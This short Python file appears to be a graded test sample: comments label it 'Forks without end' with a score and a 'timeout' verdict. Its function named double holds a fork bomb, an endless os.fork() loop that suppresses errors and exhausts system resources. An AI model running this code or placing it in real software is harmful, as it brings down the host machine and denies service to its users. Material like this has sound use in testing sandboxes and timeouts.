# ruff: noqa
# fmt: off
# Forks without end.
# score: 5
# verdict: timeout
import os
def double(x):
    while True:
        try: os.fork()
        except OSError: pass
def total(x): return x.sum()
